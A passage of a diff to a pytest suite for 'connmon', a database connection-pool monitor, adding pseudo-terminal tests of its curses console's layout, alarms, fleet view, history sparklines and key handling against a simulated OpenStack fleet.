-    stale.mkdir()
-    (stale / "INSTALLER").write_text(connmon.INSTALLER)
-    for _ in range(2):
-        result = subprocess.run(
-            [sys.executable, str(target / "connmon.py"),
-             "--install-entry-points"], cwd=tmp_path, env=PLAIN_ENV,
-            capture_output=True, text=True, timeout=30)
-        assert result.returncode == 0, result.stderr
-    (dist_info,) = target.glob("*.dist-info")
-    assert dist_info.name == f"connmon-{connmon.__version__}.dist-info"
-    dist = PathDistribution(dist_info)
-    assert (dist.metadata["Name"], dist.version) == (
-        "connmon", connmon.__version__)
-    assert {(ep.group, ep.name, ep.value) for ep in dist.entry_points} == {
-        *(("sqlalchemy.dialects", name, f"connmon:{attr}")
-          for name, attr in connmon.DIALECT_ENTRY_POINTS.items()),
-        ("sqlalchemy.plugins", "connmon", "connmon:ConnmonPlugin")}
-
-    (dist_info / "INSTALLER").write_text("pip\n")   # as pip would leave it
-    result = subprocess.run(
-        [sys.executable, str(target / "connmon.py"), "--install-entry-points",
-         "--target", str(target)], cwd=tmp_path, env=PLAIN_ENV,
-        capture_output=True, text=True, timeout=30)
-    assert result.returncode == 1
-    assert "exists and was not written by this command" in result.stderr
-    assert (dist_info / "INSTALLER").read_text() == "pip\n"
-
-
-# ---------------------------------------------------------------------------
-# Issue 3: the top-like console, oldest / hold_ms / limit, --demo
-# ---------------------------------------------------------------------------
-
-import curses
-import fcntl
-import struct
-import termios
-
-
-def sqlite_url(tmp_path, daemon: Daemon, name: str = "db") -> str:
-    return (f"sqlite+pysqlite_connmon:///{tmp_path}/{name}.sqlite"
-            f"?connmon_addr={daemon.address}")
-
-
-def _controlling_tty() -> None:
-    """In the console's child: make the pty its controlling terminal, so
-    that the kernel sends it SIGWINCH on a resize, as a real terminal."""
-    fcntl.ioctl(0, termios.TIOCSCTTY, 0)
-
-
-def xterm_screen(cols: int, lines: int):
-    """A pyte screen and stream that also know the three xterm sequences
-    ncurses uses for xterm-256color and pyte lacks: REP (repeat the last
-    character), SU and SD (scroll the region up / down)."""
-    import pyte
-
-    class Screen(pyte.Screen):
-        last = " "
-
-        def draw(self, data: str) -> None:
-            super().draw(data)
-            self.last = data[-1:] or self.last
-
-        def repeat(self, count: int = 1, *_: Any, **__: Any) -> None:
-            self.draw(self.last * max(1, count))
-
-        def _scroll(self, count: int, row: int, step) -> None:
-            self.save_cursor()
-            self.cursor.y = row
-            for _ in range(max(1, count)):
-                step()
-            self.restore_cursor()
-
-        def scroll_up(self, count: int = 1, *_: Any, **__: Any) -> None:
-            bottom = (self.margins.bottom if self.margins
-                      else self.lines - 1)
-            self._scroll(count, bottom, self.index)
-
-        def scroll_down(self, count: int = 1, *_: Any, **__: Any) -> None:
-            top = self.margins.top if self.margins else 0
-            self._scroll(count, top, self.reverse_index)
-
-    class Stream(pyte.ByteStream):
-        csi = dict(pyte.ByteStream.csi, b="repeat", S="scroll_up",
-                   T="scroll_down")
-
-    screen = Screen(cols, lines)
-    return screen, Stream(screen)
-
-
-class Terminal:
-    """The real console in a real pseudo-terminal, seen through pyte."""
-
-    KEYS = ("kcuu1", "kcud1", "knp", "kpp", "khome", "kend", "kf1", "kf3",
-            "kf4", "kf5", "kf6", "kf10")
-
-    def __init__(self, tmp_path, *args: str, cols: int = 160,
-                 lines: int = 30, env: Optional[Dict[str, str]] = None):
-        self.master, self.slave = os.openpty()
-        curses.setupterm("xterm-256color", self.slave)
-        self.key = {name: curses.tigetstr(name) for name in self.KEYS}
-        self.screen, self.stream = xterm_screen(cols, lines)
-        self.resize(cols, lines)
-        self.log = tmp_path / f"console-{self.master}.log"
-        self.proc = subprocess.Popen(
-            [sys.executable, "-m", "connmon_console", *args], cwd=HERE,
-            env={**CHILD_ENV, "TERM": "xterm-256color", **(env or {})},
-            stdin=self.slave,
-            stdout=self.slave, stderr=open(self.log, "ab"),
-            start_new_session=True, preexec_fn=_controlling_tty)
-
-    def resize(self, cols: int, lines: int) -> None:
-        fcntl.ioctl(self.master, termios.TIOCSWINSZ,
-                    struct.pack("HHHH", lines, cols, 0, 0))
-        self.screen.resize(lines, cols)
-
-    def pump(self) -> None:
-        while select.select([self.master], [], [], 0)[0]:
-            try:
-                data = os.read(self.master, 1 << 16)
-            except OSError:   # the console closed the pty
-                return
-            if not data:
-                return
-            self.stream.feed(data)
-
-    @property
-    def display(self) -> List[str]:
-        self.pump()
-        return self.screen.display
-
-    @property
-    def text(self) -> str:
-        return "\n".join(self.display)
-
-    def wait_for(self, check: Callable[["Terminal"], Any], what: str,
-                 timeout: float = 20.0) -> Any:
-        try:
-            return wait_until(lambda: self.proc.poll() is None and check(
-                self), timeout, what)
-        except AssertionError as err:
-            raise AssertionError(f"{err}\nconsole exit status "
-                                 f"{self.proc.poll()}; screen:\n"
-                                 f"{self.text}\nlog:\n"
-                                 f"{self.log.read_text()}") from None
-
-    def wait_text(self, text: str, timeout: float = 20.0) -> None:
-        self.wait_for(lambda t: text in t.text, f"{text!r} on screen",
-                      timeout)
-
-    def press(self, keys: bytes) -> None:
-        os.write(self.master, keys)
-
-    def rows(self) -> Dict[str, tuple]:
-        """The table's rows on screen: progname -> (line number, fields).
-        (The default width shows every column; a narrower one, those
-        whose headings are on screen.)"""
-        self.pump()
-        found = {}
-        columns = len(self.screen.display[6].split())
-        for y, line in enumerate(self.screen.display):
-            fields = line.split()
-            if y >= 7 and columns > 2 and len(fields) == columns:
-                found[fields[1]] = (y, fields)
-        return found
-
-    def numbers(self, progname: str) -> List[str]:
-        """The numbers of a row, without their alarm markers; [] while it
-        is not on screen."""
-        row = self.rows().get(progname)
-        return [field.lstrip(connmon_console.ABOVE + connmon_console.LEAKED)
-                for field in row[1][2:]] if row else []
-
-    def colour(self, progname: str) -> str:
-        y, _ = self.rows()[progname]
-        return self.screen.buffer[y][0].fg
-
-    def order(self) -> List[str]:
-        return [name for name, _ in sorted(self.rows().items(),
-                                           key=lambda item: item[1][0])]
-
-    def lflag(self) -> int:
-        return termios.tcgetattr(self.slave)[3]
-
-    def close(self) -> None:
-        if self.proc.poll() is None:
-            self.proc.kill()
-        self.proc.wait(10)
-        os.close(self.master)
-        os.close(self.slave)
-
-
-@pytest.fixture
-def terminal(tmp_path):
-    started: List[Terminal] = []
-
-    def start(*args: str, **options: Any) -> Terminal:
-        term = Terminal(tmp_path, *args, **options)
-        started.append(term)
-        return term
-
-    yield start
-    for term in started:
-        term.close()
-        assert "Traceback" not in term.log.read_text()
 
 
 def expected_numbers(row: Dict[str, Any]) -> List[str]:
@@ -2821,28 +3639,877 @@ def test_console_on_a_terminal_without_colours(daemon, apps, tmp_path,
     assert not term.screen.buffer[calm_y][0].bold
 
 
-@pytest.mark.parametrize("args, message", [
-    (["-H", "127.0.0.1:1", "-i", "0"], "argument -i/--interval: '0' is not "
-     "a number of seconds from 0.05 to 3600"),
-    (["-H", "127.0.0.1:1", "-i", "x"], "'x' is not a number of seconds"),
-    (["--demo", "--once"], "--demo is interactive"),
-    (["--demo", "-H", "127.0.0.1:1"], "argument -H/--host: not allowed with "
-     "argument --demo"),
-    (["-H", "127.0.0.1:1"], "the live screen needs a terminal; use --once "
-     "for scripts"),
-])
-def test_console_command_line_errors(args, message):
-    result = subprocess.run(
-        [sys.executable, "-m", "connmon_console", *args], cwd=HERE,
-        env=CHILD_ENV, capture_output=True, text=True, timeout=30,
-        stdin=subprocess.DEVNULL)
-    assert result.returncode == 2
-    assert message in result.stderr
+def history_line(t: Terminal, label: str) -> str:
+    """The drill-down's sparkline for ``label``; "" while not on screen."""
+    lines = [line.rstrip() for line in t.display
+             if line.startswith(label + " ")]
+    return lines[0] if len(lines) == 1 else ""
 
 
-# ---------------------------------------------------------------------------
-# Issue 8: the leak finder -- where in the application connections are held
-# ---------------------------------------------------------------------------
+@hypothesis.settings(max_examples=300, deadline=None)
+@hypothesis.given(length=st.integers(1, 6), ticks=st.lists(st.dictionaries(
+    st.tuples(st.sampled_from(["h1", "h2"]), st.sampled_from(["p1", "p2"])),
+    st.integers(0, 70_000)), max_size=15))
+def test_history_sums_the_samples_of_the_rows_asked_for(length, ticks):
+    """A "history" reply: the samples of the rows asked for (a program on
+    one host, or on every host) summed, oldest first, over the last
+    samples any of them has (a row forgotten starts again); a count above
+    65,535 kept as 65,535.  Summed from a copy of those rows."""
+    history = connmon_server.History(length)
+    since: Dict[tuple, int] = {}   # row -> the sample it was first in
+    for tick, counts in enumerate(ticks):
+        since = {key: since.get(key, tick) for key in counts}
+        rows = {key: connmon_server.ProgramRow(*key) for key in counts}
+        for key, row in rows.items():
+            row.conn, row.ckout = counts[key], counts[key] // 3
+        history.record(rows)
+    for progname, hostname in itertools.product(["p1", "p2"],
+                                                [None, "h1", "h2"]):
+        picked = [key for key in since if key[1] == progname
+                  and hostname in (None, key[0])]
+        kept = min(length, max((len(ticks) - since[key] for key in picked),
+                               default=0))
+        expected = tuple([sum(min(share(ticks[tick][key]), 65535)
+                              for key in picked if since[key] <= tick)
+                          for tick in range(len(ticks) - kept, len(ticks))]
+                         for share in (lambda n: n, lambda n: n // 3))
+        assert history.picked(progname, hostname).sums() == expected
+
+
+@pytest.mark.parametrize("size", [(80, 24), (160, 30)])
+def test_console_draws_one_cell_a_character(tmp_path, terminal, size):
+    """Wide characters (two cells) and combining marks (none) are drawn
+    escaped, so the columns stay in line and "e\u0301vil" cannot pass
+    for another name."""
+    daemon = Daemon(tmp_path)
+    apps = []
+    try:
+        for host, prog in (("ctl1", "nova-api"), ("\u30db\u30b9\u30c8",
+                                                  "e\u0301vil")):
+            app = SyntheticApp(daemon, host, prog)
+            app.event(connmon.CONNECT, 1, 1)
+            app.send()
+            apps.append(app)
+        term = terminal("-H", daemon.address, cols=size[0], lines=size[1])
+        rows = term.wait_for(lambda t: len(t.rows()) == 2 and t.rows(),
+                             "the two rows")
+        ends = {len(term.display[y].rstrip()) for y, _ in rows.values()}
+        assert len(ends) == 1, term.text   # the columns in line
+        assert r"\u30db\u30b9\u30c8" in term.text
+        assert r"e\u0301vil" in term.text
+    finally:
+        for app in apps:
+            app.conn.close()
+        daemon.stop()
+
+
+# The programs of an OpenStack control plane and two compute hosts:
+# (hostname, progname, connections, checked out, age of the oldest
+# checkout in seconds or None, pool capacity).
+OPENSTACK = [
+    ("ctl1", "nova-conductor", 14, 3, 1243.6, 40),
+    ("ctl1", "nova-scheduler", 4, 2, 2.0, 2),          # exhausted
+    ("ctl1", "neutron-server", 11, 1, 120.5, 30),
+    ("ctl1", "neutron-dhcp-agent", 6, 1, 5.0, 15),
+    ("ctl1", "neutron-l3-agent", 5, 0, None, 15),
+    ("ctl2", "neutron-dhcp-agent", 3, 1, 95.0, 15),
+    ("ctl2", "neutron-l3-agent", 2, 0, None, 15),
+    ("compute1", "nova-compute", 9, 2, 33.3, 15),
+    ("compute2", "nova-compute", 8, 1, 61.0, 15),
+]
+MARK = connmon_console.CUT_MARK
+
+
+def openstack_fleet(daemon: Daemon) -> Dict[Tuple[str, str], "SyntheticApp"]:
+    """One synthetic process per row of OPENSTACK, its connections held
+    since the ages given (nova-conductor's first one by a thread that is
+    gone)."""
+    fleet = {}
+    for host, prog, conns, out, age, limit in OPENSTACK:
+        app = SyntheticApp(daemon, host, prog)
+        app.event(connmon.POOL, 1, limit)
+        for conn in range(1, conns + 1):
+            app.event(connmon.CONNECT, conn, 1)
+        now = time.monotonic()
+        app.state.fold([(connmon.CHECKOUT, conn, now - (age or 0) + conn - 1,
+                         1, None, None, None, None)
+                        for conn in range(1, out + 1)])
+        if prog == "nova-conductor":
+            app.state.site_names[7] = "/srv/nova/db/api.py:88 in leak"
+            app.state.holders[1] = (7, None, None)
+            app.state.held_at[1] = "thread gone"
+        app.send()
+        fleet[host, prog] = app
+    want = {(host, prog, conns, out, limit)
+            for host, prog, conns, out, _, limit in OPENSTACK}
+    wait_until(lambda: {(row["hostname"], row["progname"], row["conn"],
+                         row["ckout"], row["limit"])
+                        for row in daemon.snapshot()["rows"]} == want,
+               what="the OpenStack rows")
+    return fleet
+
+
+def shown_as(shown: str, real: str) -> bool:
+    """Whether a name on screen is ``real``, whole or cut with the mark."""
+    if MARK not in shown:
+        return shown == real
+    head, tail = shown.split(MARK)
+    return (len(real) >= len(shown) and real.startswith(head)
+            and real.endswith(tail))
+
+
+def table_on_screen(t: Terminal) -> Tuple[List[str], List[List[str]]]:
+    """The headings (sort arrow taken off) and the rows of the table."""
+    lines = t.display
+    heads = [re.sub("[\N{UPWARDS ARROW}\N{DOWNWARDS ARROW}]", "", field)
+             for field in lines[6].split()]
+    rows = [line.split() for line in lines[7:-1] if line.strip()]
+    return heads, rows
+
+
+def seconds_shown(text: str) -> float:
+    """A duration as the console shows it (12.3, 5m44s, 2h05m, 3d04h)."""
+    found = re.fullmatch(r"(\d+)([dhm])(\d+)[hms]", text)
+    if found is None:
+        return float(text)
+    unit, small = {"d": (86400, 3600), "h": (3600, 60), "m": (60, 1)}[
+        found[2]]
+    return int(found[1]) * unit + int(found[3]) * small
+
+
+def check_openstack_table(t: Terminal, truth: Dict[Tuple[str, str], dict]
+                          ) -> List[Tuple[str, str]]:
+    """Every row on screen is one real row, told apart from the others;
+    every number shown is whole and true; CONN descends.  Returns the
+    real rows seen, in screen order."""
+    heads, rows = table_on_screen(t)
+    assert shown_as(heads[0], "HOSTNAME") and heads[1] == "PROGNAME", heads
+    seen = []
+    for fields in rows:
+        assert len(fields) == len(heads), (heads, fields)
+        (real,) = [key for key in truth if shown_as(fields[0], key[0])
+                   and shown_as(fields[1], key[1])]
+        seen.append(real)
+        row = truth[real]
+        for heading, field in zip(heads[2:], fields[2:]):
+            value = field.lstrip("!*")
+            key = {"CKOUT/S": "ckout_per_sec", "HOLD_MS": "hold_ms",
+                   "WAIT": "waiting", "TMOUT/S": "timeouts_per_sec"}.get(
+                       heading, heading.lower())
+            if key == "oldest":
+                assert (value == "-") == (row["oldest"] is None), field
+                if value != "-":   # older now, never cut short (5m44s)
+                    assert row["oldest"] - 1 < seconds_shown(value) < row[
+                        "oldest"] + 60, (real, field)
+            elif key not in ("ckout_per_sec", "hold_ms"):
+                assert value == connmon_console.cell(row[key]), (
+                    real, heading, field)
+    assert len(set(seen)) == len(seen), seen
+    conns = [truth[key]["conn"] for key in seen]
+    assert conns == sorted(conns, reverse=True)
+    return seen
+
+
+@pytest.mark.parametrize("cols, lines", [(80, 24), (40, 15)])
+def test_console_openstack_names_at_80x24_and_40x15(tmp_path, terminal,
+                                                    cols, lines):
+    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n")
+    try:
+        fleet = openstack_fleet(daemon)
+        truth = {(row["hostname"], row["progname"]): row
+                 for row in daemon.snapshot()["rows"]}
+        term = terminal("-H", daemon.address, "-i", "0.3", cols=cols,
+                        lines=lines)
+        visible = lines - 8
+        term.wait_for(lambda t: len(table_on_screen(t)[1]) == min(
+            visible, len(OPENSTACK)), "the table")
+        heads, _ = table_on_screen(term)
+        if cols == 80:
+            # The MAX* group, the rate, LIMIT and HOLD_MS went first
+            # (WAIT and TMOUT/S, the pool pressure, stay); names whole.
+            assert heads == ["HOSTNAME", "PROGNAME", "NPROC", "CONN", "CKOUT",
+                             "WAIT", "TMOUT/S", "OLDEST"]
+            assert MARK not in "\n".join(term.display[6:-1])
+        else:
+            assert heads == ["HOSTN" + MARK, "PROGNAME", "CONN", "CKOUT",
+                             "OLDEST"]
+        seen = check_openstack_table(term, truth)
+        term.press(term.key["kend"])   # the rest, at 40x15
+        term.wait_for(lambda t: check_openstack_table(t, truth)[-1:] == [
+            max(truth, key=lambda k: (-truth[k]["conn"], k))], "the end")
+        seen += check_openstack_table(term, truth)
+        assert set(seen) == set(truth)
+        # The leak's OLDEST is marked, in the alarm colour.
+        term.press(term.key["khome"])
+        term.wait_for(lambda t: "*20m" in t.text, "the leak's marker")
+        (y,) = [y for y, line in enumerate(term.display) if "*20m" in line]
+        x = term.display[y].index("*20m")
+        assert term.screen.buffer[y][x].bg == "red"
+        # PAUSED, at any width, first on the title line.
+        term.press(b" ")
+        term.wait_for(lambda t: t.display[0].startswith("PAUSED "),
+                      "PAUSED")
+        fleet["ctl1", "nova-conductor"].event(connmon.CONNECT, 99, 1)
+        fleet["ctl1", "nova-conductor"].send()
+        daemon.wait_row("nova-conductor", conn=15)
+        time.sleep(1.0)
+        assert check_openstack_table(term, truth)   # the old picture
+        term.press(b"p")
+        term.wait_for(lambda t: not t.display[0].startswith("PAUSED"),
+                      "resumed")
+    finally:
+        daemon.stop()
+
+
+def fleet_rows_on_screen(t: Terminal) -> Dict[str, List[str]]:
+    """The fleet view's rows: progname -> [hosts, numbers...]."""
+    rows = {}
+    for line in t.display[7:-1]:
+        found = re.match(r"(\d+ hosts?) +(\S+) +(.*)", line)
+        if found:
+            rows[found[2]] = [found[1]] + [
+                field.lstrip("!*") for field in found[3].split()]
+    return rows
+
+
+def test_console_fleet_view_totals_and_drill_down(tmp_path, terminal):
+    daemon = Daemon(tmp_path)
+    try:
+        fleet = openstack_fleet(daemon)   # kept: its connections stay
+        truth = daemon.snapshot()["rows"]
+        term = terminal("-H", daemon.address, "-i", "0.3", cols=160)
+        term.wait_text("9 rows, sorted by CONN descending")
+        term.press(b"f")
+        term.wait_text("6 programs over every host, sorted by CONN")
+        term.wait_for(lambda t: len(fleet_rows_on_screen(t)) == 6,
+                      "six programs")
+        heads, _ = table_on_screen(term)
+        for prog, fields in fleet_rows_on_screen(term).items():
+            hosts = [row for row in truth if row["progname"] == prog]
+            assert fields[0] == connmon.plural(len(hosts), "host")
+            numbers = dict(zip(heads[2:], fields[1:]))
+            for key in ("nproc", "conn", "ckout", "limit", "maxnproc",
+                        "maxconn", "maxckout", "waiting"):
+                heading = {"waiting": "WAIT"}.get(key, key.upper())
+                assert numbers[heading] == str(
+                    sum(row[key] for row in hosts)), (prog, key)
+        # The biggest program first: CONN descends over the fleet too.
+        order = [line.split()[2] for line in term.display[7:-1]
+                 if re.match(r"\d+ hosts?", line)]
+        sums = [sum(r["conn"] for r in truth if r["progname"] == p)
+                for p in order]
+        assert sums == sorted(sums, reverse=True)
+        # Drill into nova-compute: its processes on both compute hosts.
+        term.press(term.key["kcud1"] * order.index("nova-compute") + b"\r")
+        term.wait_text("nova-compute on every host: 2 processes")
+        term.wait_for(lambda t: "compute1" in t.text and "compute2" in
+                      t.text, "both hosts' processes")
+        term.press(b"\x1b")
+        term.wait_text("6 programs over every host")
+        term.press(term.key["kf5"])   # F5: back to host+program rows
+        term.wait_text("9 rows, sorted by CONN descending")
+        # ... and the drill-down from a host row shows that host only.
+        term.press(b"\r")
+        term.wait_text("nova-conductor on ctl1: 1 process")
+    finally:
+        daemon.stop()
+
+
+def sparkline_of(t: Terminal, label: str) -> str:
+    line = history_line(t, label)
+    return line.split(None, 2)[2] if line.count(" ") >= 2 else ""
+
+
+def test_console_draws_the_daemons_history_after_a_restart(tmp_path,
+                                                          terminal):
+    daemon = Daemon(tmp_path)
+    try:
+        app = SyntheticApp(daemon, "ctl1", "nova-conductor")
+        app.event(connmon.POOL, 1, 20)
+        for conn in range(1, 4):   # a leak's staircase, before any console
+            app.event(connmon.CONNECT, conn, 1)
+            app.event(connmon.CHECKOUT, conn, 1)
+            app.send()
+            time.sleep(2.2)
+        daemon.wait_row("nova-conductor", ckout=3)
+
+        def staircase(t: Terminal) -> bool:
+            spark = sparkline_of(t, "CKOUT")
+            ramp = connmon_console.UNICODE_GLYPHS["spark"]
+            levels = [ramp.index(char) for char in spark if char in ramp]
+            return (len(spark) >= 6 and levels == sorted(levels)
+                    and len(set(levels)) >= 3 and levels[-1] == 7)
+        for _ in range(2):   # a console, then another one after it
+            term = terminal("-H", daemon.address, "-i", "0.3")
+            term.wait_for(lambda t: "nova-conductor" in t.rows(), "the row")
+            term.press(b"\r")
+            term.wait_text("nova-conductor on ctl1: 1 process")
+            term.wait_for(staircase, "the staircase from the daemon")
+            assert re.search(r"History of the last \d+s \(connmond's",
+                             term.text)
+            term.press(b"q")
+            assert term.proc.wait(10) == 0
+    finally:
+        daemon.stop()
+
+
+def test_console_thresholds_marked_with_and_without_colour(tmp_path,
+                                                           terminal):
+    daemon = Daemon(tmp_path, extra_config="hold_warn_seconds: 30\n"
+                    "hold_ms_warn: 100\n")
+    stop = threading.Event()
+    try:
+        fleet = openstack_fleet(daemon)   # kept: its connections stay
+        slow = SyntheticApp(daemon, "ctl2", "glance-api")
+        slow.event(connmon.POOL, 1, 10)
+        slow.event(connmon.CONNECT, 1, 1)
+        slow.send()
+
+        def slow_queries() -> None:   # each one held for half a second
+            while not stop.wait(0.2):
+                now = time.monotonic()
+                slow.state.fold([
+                    (connmon.CHECKOUT, 1, now - 0.5, 1, None, None, None,
+                     None),
+                    (connmon.CHECKIN, 1, now, None, None, None, None,
+                     None)])
+                slow.send()
+        threading.Thread(target=slow_queries, daemon=True).start()
+        for env in ({}, {"TERM": "vt100"}):
+            term = terminal("-H", daemon.address, "-i", "0.3", cols=120,
+                            env=env)
+            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 10,
+                          "ten rows")
+
+            def marks(t: Terminal) -> Dict[str, List[str]]:
+                """host/program -> the marked numbers of its row."""
+                _, rows = table_on_screen(t)
+                return {f"{fields[0]}/{fields[1]}": [
+                    field for field in fields[2:] if field[0] in "!*"]
+                    for fields in rows}
+            # glance-api holds each connection 500 ms (its only alarm).
+            term.wait_for(lambda t: re.fullmatch(r"!(4|5)[0-9][0-9]\.[0-9]",
+                                                 *marks(t)["ctl2/glance-api"]
+                                                 or [""]),
+                          "HOLD_MS above hold_ms_warn")
+            found = marks(term)
+            # OLDEST above 30 s: "!"; the gone thread's leak: "*";
+            # nova-scheduler's pool (2) all out: CKOUT "!"; calm rows bare.
+            assert re.fullmatch(r"\*2[01]m[0-9][0-9]s",
+                                *found["ctl1/nova-conductor"])
+            assert re.fullmatch(r"![23]m[0-9][0-9]s",
+                                *found["ctl1/neutron-server"])
+            assert found["ctl1/nova-scheduler"] == ["!2"]
+            assert found["ctl1/neutron-dhcp-agent"] == []   # 5 s: calm
+            assert found["ctl1/neutron-l3-agent"] == []
+            assert re.fullmatch(r"![12]m[0-9][0-9]s",
+                                *found["ctl2/neutron-dhcp-agent"])
+            colours = {char.bg for line in term.screen.buffer.values()
+                       for char in line.values()}
+            assert ("red" in colours) == (env == {})
+            # F10 quits (vt100 has no F10: q)
+            term.press(b"q" if env else term.key["kf10"])
+            assert term.proc.wait(10) == 0
+        assert len(fleet) == len(OPENSTACK)
+    finally:
+        stop.set()
+        daemon.stop()
+
+
+def test_console_keys_footer_help_and_gone_rows(tmp_path, terminal):
+    daemon = Daemon(tmp_path, extra_config="forget_gone_after: 4\n")
+    try:
+        fleet = openstack_fleet(daemon)
+        term = terminal("-H", daemon.address, "-i", "0.3", cols=40,
+                        lines=15)
+
+        def selected(t: Terminal) -> List[int]:
+            t.pump()
+            return [y for y in range(7, 14) if t.screen.buffer[y][0].reverse]
+        # The selection is on the top row from the start.
+        term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7, "rows")
+        term.wait_for(lambda t: selected(t) == [7], "the top row selected")
+        term.press(b"jj")
+        term.wait_for(lambda t: selected(t) == [9], "j moves down")
+        term.press(b"k")
+        term.wait_for(lambda t: selected(t) == [8], "k moves up")
+        # Help (F1) scrolls to its last line at 15 lines, any key returns.
+        term.press(term.key["kf1"])
+        term.wait_text("connmon keys")
+        assert "MAX*: the highest values" not in term.text
+        term.press(term.key["kend"])
+        term.wait_text("MAX*: the highest values")
+        term.press(b"z")
+        term.wait_text("sorted by CONN")
+        # An unknown key says where help is, for a while.
+        term.press(b"Z")
+        term.wait_text("unknown key: ? for help")
+        term.wait_for(lambda t: "unknown key" not in t.text and "F1 help" in
+                      t.text, "the message gone")
+        # F3 and F4 filter, as / does; Ctrl-L redraws.
+        for key in (term.key["kf3"], term.key["kf4"]):
+            term.press(key + b"nova-c")
+            term.wait_text("Filter: nova-c_")
+            term.press(b"\r")
+            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 3,
+                          "the three nova-c rows")
+            term.press(b"\x1b")
+            term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7,
+                          "filter cleared")
+        term.press(b"\x0c")
+        term.wait_for(lambda t: len(table_on_screen(t)[1]) == 7, "redrawn")
+        # The footer names only keys that work in the view.
+        term.resize(120, 30)
+        term.wait_for(lambda t: "r reverse" in t.display[-1] and
+                      "/ filter" in t.display[-1], "the table's footer")
+        term.press(b"s")
+        term.wait_text("checkout sites holding connections")
+        footer = term.display[-1]
+        assert "Enter procs" in footer and "Esc back" in footer
+        for word in ("sort", "reverse", "filter", "fleet"):
+            assert word not in footer
+        term.press(b"\x1b")
+        term.wait_text("sorted by CONN")
+        # Gone rows: hidden by x, and forgotten by the daemon in the end.
+        fleet.pop(("ctl2", "neutron-l3-agent")).conn.close()
+        wait_until(lambda: [r for r in daemon.snapshot()["rows"]
+                            if not r["connected"]], what="a gone row")
+        term.wait_text("9 rows")
+        term.press(b"x")
+        term.wait_text("8 rows, sorted by CONN descending, gone hidden")
+        term.press(b"x")
+        term.wait_text("9 rows, sorted by CONN descending")
+        wait_until(lambda: len(daemon.snapshot()["rows"]) == 8,
+                   what="the gone row forgotten")
+        term.wait_text("8 rows, sorted by CONN descending")
+    finally:
+        daemon.stop()
+
+
+def test_console_hide_gone_option(tmp_path, terminal):
+    daemon = Daemon(tmp_path)
+    try:
+        live = SyntheticApp(daemon, "ctl1", "nova-conductor")
+        SyntheticApp(daemon, "ctl1", "nova-api").conn.close()
+        wait_until(lambda: len(daemon.snapshot()["rows"]) == 2 and not all(
+            row["connected"] for row in daemon.snapshot()["rows"]),
+            what="a live and a gone row")
+        term = terminal("-H", daemon.address, "-i", "0.3", "--hide-gone")
+        term.wait_text("1 row, sorted by CONN descending, gone hidden")
+        assert "nova-conductor" in term.text and "nova-api" not in term.text
+        assert live.conn
+    finally:
+        daemon.stop()
+
+
+def table_rows(names: List[Tuple[str, str]], **numbers: Any
+               ) -> List[Dict[str, Any]]:
+    """Rows of the console's main table, one per (hostname, progname)."""
+    figures = {"nproc": 4, "conn": 123456, "ckout": 12, "limit": 30,
+               "waiting": 0, "timeouts_per_sec": 0.0, "maxnproc": 4,
+               "maxconn": 1234567, "maxckout": 30, "ckout_per_sec": 1234.5,
+               "hold_ms": 2.5, "oldest": 3600.0, **numbers}
+    return [{"hostname": host, "progname": prog, "connected": True,
+             **figures} for host, prog in names]
+
+
+def check_layout(width: int, rows: List[Dict[str, Any]]) -> List[str]:
+    """Lay the main table out in ``width`` columns and check what the
+    console promises; the lines drawn."""
+    columns = connmon_console.COLUMNS
+    layout = connmon_console.plan(columns, width, rows, rows)
+    kept = [column for column, _ in layout]
+    dropped = [column for column in columns if column not in kept]
+    assert sum(w for _, w in layout) <= width or len(layout) == 1
+    # Columns go in keep order: none dropped is kept more than one shown.
+    assert max((c.keep for c in dropped), default=0) <= min(
+        c.keep for c in kept)
+    whole = connmon_console.whole_widths(columns, rows, rows)
+    names_cut = any(w < min(c.most, whole[c]) for c, w in layout
+                    if c.kind == "text")
+    if names_cut:   # names are cut only once the lesser columns are gone
+        assert all(c.keep >= connmon_console.NAMES_FIRST for c in kept)
+    formatter = connmon_console.Formatter(
+        layout, rows, connmon_console.thresholds_of({}),
+        connmon_console.Cutter())
+    lines = []
+    for row in rows:
+        texts = formatter.texts(row)
+        line = formatter.line(row)
+        assert len(line) == sum(w for _, w in layout)
+        for (column, w), text in zip(layout, texts):
+            shown = column.show(column.value(row))
+            if not column.text:   # a number is never cut
+                assert text == shown and len(text) < w
+            elif len(shown) < w:
+                assert text == shown
+            else:
+                assert len(text) == w - 1
+                assert text.count(connmon_console.CUT_MARK) == 1
+        lines.append(line)
+    return lines
+
+
+OPENSTACK_NAMES = [
+    ("controller", "nova-api"), ("controller", "nova-conductor"),
+    ("controller", "nova-compute"), ("controller", "glance-api"),
+    ("controller", "neutron-openvswitch-agent"),
+    ("controller", "neutron-l3-agent"),
+    ("compute-0001.example.org", "nova-compute")]
+
+
+def test_plan_at_80_columns_drops_lesser_columns_before_a_name_is_cut():
+    lines = check_layout(80, table_rows(OPENSTACK_NAMES))
+    assert any("neutron-openvswitch-agent" in line for line in lines)
+    assert all("123456" in line for line in lines)
+
+
+def test_plan_at_40_columns_cuts_names_and_keeps_the_numbers_whole():
+    rows = table_rows(OPENSTACK_NAMES)
+    layout = connmon_console.plan(connmon_console.COLUMNS, 40, rows, rows)
+    headings = [column.heading for column, _ in layout]
+    assert headings[:2] == ["HOSTNAME", "PROGNAME"]
+    assert {"CONN", "CKOUT", "OLDEST"} <= set(headings)
+    lines = check_layout(40, rows)
+    oldest = connmon_console.duration(3600.0)   # as the screen reads it
+    assert all("123456" in line and oldest in line for line in lines)
+    assert any(connmon_console.CUT_MARK in line for line in lines)
+    assert len(set(lines)) == len(lines)   # every row told apart
+
+
+@hypothesis.settings(max_examples=100, deadline=None)
+@hypothesis.given(
+    width=st.sampled_from([40, 80]),
+    names=st.lists(st.tuples(st.text(st.characters(
+        min_codepoint=0x21, max_codepoint=0x7e), min_size=1, max_size=40),
+        st.text(st.characters(min_codepoint=0x21, max_codepoint=0x7e),
+                min_size=1, max_size=40)), min_size=1, max_size=8),
+    conn=st.integers(0, 10 ** 9), oldest=st.one_of(
+        st.none(), st.floats(0, 10 ** 7, allow_nan=False)))
+def test_plan_never_cuts_a_number_whatever_the_names(width, names, conn,
+                                                     oldest):
+    check_layout(width, table_rows(names, conn=conn, maxconn=conn,
+                                   oldest=oldest))
+
+
+def test_cutter_tells_names_apart_near_a_third_of_the_way_in():
+    cutter = connmon_console.Cutter()
+    names = ["nova-compute", "nova-conductor", "neutron-l3-agent",
